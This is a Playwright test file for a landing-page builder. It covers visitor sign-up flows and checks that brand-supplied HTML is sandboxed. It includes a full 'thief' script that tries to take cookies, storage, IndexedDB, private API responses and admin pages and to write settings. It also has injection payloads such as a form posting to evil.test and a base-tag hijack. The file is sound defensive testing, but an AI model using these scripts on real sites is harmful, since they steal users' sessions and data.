import { gzipSync } from 'node:zlib'
import type { Browser, Page } from '@playwright/test'
import { newVisitor } from '../support/browser'
import { axeOf } from '../support/page-accessibility'
import { DEMO_PASSWORD } from '../support/panel'
import { expect, type SharedProduct, test } from '../support/test'

/** What visitors of a landing page do, and what a brand's code can't do. */

let product: SharedProduct<'demo'>
let browser: Browser
test.beforeAll(({ demo, browser: launched }) => {
  product = demo
  browser = launched
})

const DEMO = '/lp/cast-iron-skillet'
/** A submission in less time is a bot's. */
const READING_MS = 800
const visit = async (path: string, options: Parameters<typeof newVisitor>[3] = {}) => {
  const visitor = await newVisitor(browser, product.origin, 1280, options)
  await visitor.page.goto(path)
  return visitor
}
const submit = async (page: Page, email: string) => {
  await page.waitForTimeout(READING_MS)
  await page.getByLabel('Email address').fill(email)
  await page.getByRole('button', { name: 'Get My Discount' }).click()
}
/** A published page of the demo's brand with a form, and this code at the top of its body. */
const pageWith = async (slug: string, html_code: string, position = 'body_top') => {
  const [page] = await product.rows<{ id: number; brand_id: number }>(
    `insert into landing_pages (brand_id, product_id, title, slug, is_published)
     select brand_id, product_id, $1, $1, true
     from landing_pages
     where slug = 'cast-iron-skillet'
     returning id, brand_id`,
    [slug],
  )
  const capture = { title: 'Save', discount_type: 'code', discount_value: 'OPEN10' }
  await product.rows(
    `insert into landing_page_sections (landing_page_id, brand_id, section_type, position, content)
     values ($1, $2, 'custom_html', 0, $3), ($1, $2, 'email_capture', 1, $4)`,
    [page?.id, page?.brand_id, JSON.stringify({ html_code, position, style: 'visible' }), JSON.stringify(capture)],
  )
  return page?.id
}

test('a visitor reads the page, gets the code and shops on Amazon', async () => {
  const { page, context } = await visit(DEMO)
  await expect(page.getByRole('heading', { level: 1 })).toHaveText('The skillet that gets better with every meal')
  await expect(page.getByText(/^\$\d+\.\d\d on Amazon as of /)).toBeVisible()
  expect(await axeOf(page, 'landing page')).toEqual([])
  await page.getByRole('button', { name: 'Get My Discount' }).click()
  await expect(page.getByRole('alert')).toHaveText('Please enter your email address')
  await submit(page, 'shopper@visitor.test')
  await expect(page.getByRole('heading', { name: 'Check Your Email!' })).toBeVisible()
  await expect(page.getByText('SKILLET10', { exact: true })).toBeVisible()
  expect(await axeOf(page, 'landing page after the form')).toEqual([])
  await page.getByRole('link', { name: 'Shop on Amazon Now' }).click()
  await page.waitForURL(/\/sandbox\/shop\/dp\/.*maas=/)
  await expect
    .poll(() =>
      product.rows(
        `select clicked_through_to_amazon from landing_page_email_submissions where email = 'shopper@visitor.test'`,
      ),
    )
    .toEqual([{ clicked_through_to_amazon: true }])
  await context.close()
})

test('an email that cannot be sent stays in the field with the message', async () => {
  const { page, context } = await visit(DEMO)
  await page.route('**/submit-email', (route) => route.abort())
  await submit(page, 'later@visitor.test')
  await expect(page.getByText('Something went wrong. Please try again.')).toBeVisible()
  await expect(page.getByLabel('Email address')).toHaveValue('later@visitor.test')
  await page.unroute('**/submit-email')
  await page.route('**/amazon-url?*', (route) => route.abort())
  await page.getByRole('link', { name: 'Shop Now' }).click()
  await expect(page.getByText('Failed to redirect to Amazon. Please try again.')).toBeVisible()
  await context.close()
})

test('a page has at most 15 kB of JavaScript, all of it in the document', async () => {
  const html = await (await fetch(product.origin + DEMO)).text()
  const scripts = [...html.matchAll(/<script([^>]*)>([\s\S]*?)<\/script>/g)]
  expect(scripts.map(([, attributes]) => attributes)).toEqual([''])
  expect(gzipSync(scripts.map(([, , script]) => script).join()).length).toBeLessThanOrEqual(15_000)
})

test('everything works without JavaScript', async () => {
  const { page, context } = await visit(DEMO, { javaScriptEnabled: false })
  await page.getByLabel('Email address').fill('plain@visitor.test')
  await page.getByRole('button', { name: 'Get My Discount' }).click()
  await expect(page.getByText('SKILLET10', { exact: true })).toBeVisible()
  await page.getByRole('link', { name: 'Shop on Amazon Now' }).click()
  await page.waitForURL(/\/sandbox\/shop\/dp\/.*maas=/)
  await context.close()
})

/** Tries to take what the product keeps in this browser, and shows what it got. */
const THIEF = `<script>
const loot = {}
const attempt = async (name, take) => { try { loot[name] = String(await take()) } catch (error) { loot[name] = 'refused' } }
const all = async () => {
  await attempt('cookie', () => document.cookie)
  await attempt('setCookie', () => { document.cookie = 'planted=1; path=/'; return document.cookie })
  await attempt('localStorage', () => JSON.stringify({ ...localStorage }))
  await attempt('sessionStorage', () => JSON.stringify({ ...sessionStorage }))
  await attempt('databases', () => new Promise((done, fail) => {
    const opening = indexedDB.open('firebaseLocalStorageDb')
    opening.onsuccess = () => done('opened')
    opening.onerror = () => fail(new Error())
  }))
  await attempt('caches', async () => (await caches.keys()).join())
  await attempt('serviceWorker', () => navigator.serviceWorker.register('/sw.js'))
  const paths = ['/api/user-type', '/api/brands/me', '/api/collected-emails', '/cms-api/users', '/cms-api/brands']
  for (const path of [...paths, '/admin', '/dashboard/main'])
    await attempt('fetch ' + path, async () => (await fetch(path, { credentials: 'include' })).text())
  await attempt('write', async () => (await fetch('/api/email-settings', { method: 'PUT', credentials: 'include',
    headers: { 'content-type': 'application/json' }, body: '{"postal_address":"1 Thief Street, Town","retention_days":null}' })).text())
  await attempt('parent', () => window.parent === window ? 'none' : window.parent.document.title)
  await attempt('opener', () => window.opener ? window.opener.document.title : 'none')
  const frame = document.createElement('iframe')
  frame.src = '/dashboard/main'
  document.body.append(frame)
  await new Promise((done) => { frame.onload = done; setTimeout(done, 1500) })
  await attempt('frame', () => frame.contentDocument ? frame.contentDocument.title : 'refused')
  const out = document.createElement('pre')
  out.id = 'loot'
  out.textContent = JSON.stringify(loot)
  document.body.append(out)
}
addEventListener('load', all)
</script>`

test('a brand’s code reads no token, cookie, storage, private call or frame', async ({ loggedIn }) => {
  await pageWith('thief', THIEF)
  const { page, context } = await visit('/dashboard/main', {
    storageState: await loggedIn(product, 'hello@fernhill.test', DEMO_PASSWORD),
  })
  await page.getByRole('heading', { level: 1 }).waitFor()
  const before = await context.cookies()
  await page.goto('/lp/thief')
  const loot = JSON.parse((await page.locator('#loot').textContent()) ?? '{}') as Record<string, string>
  expect(Object.keys(loot).length).toBeGreaterThan(15)
  expect(Object.entries(loot).filter(([, got]) => !['refused', 'none', 'null'].includes(got))).toEqual([])
  expect(await context.cookies()).toEqual(before)
  await context.close()
})

const BROKEN = [
  'throw new Error("broken")</script><!-- never closed <script>',
  '<script>window.fetch = null; addEventListener("submit", (e) => e.stopImmediatePropagation(), true)</script>',
  '<script>"<!--<script>"',
  '<style>form { color: ',
  '<form action="https://evil.test"><input name="email"><textarea>',
  '<script>nowhere.something()</script><script src="https://missing.test/x.js"></script><img src="x" onerror="nothing()">',
  '<base href="https://evil.test/"><meta http-equiv="Content-Security-Policy" content="default-src \'none\'">',
]

test('a page whose code is full of errors still collects an email', async () => {
  for (const [index, code] of BROKEN.entries()) {
    await pageWith(`broken-${index}`, index === 0 ? `<script>${code}` : code)
    const { page, context } = await visit(`/lp/broken-${index}`)
    await submit(page, `broken-${index}@visitor.test`)
    await expect(page.getByText('OPEN10', { exact: true }), code).toBeVisible()
    await context.close()
  }
})
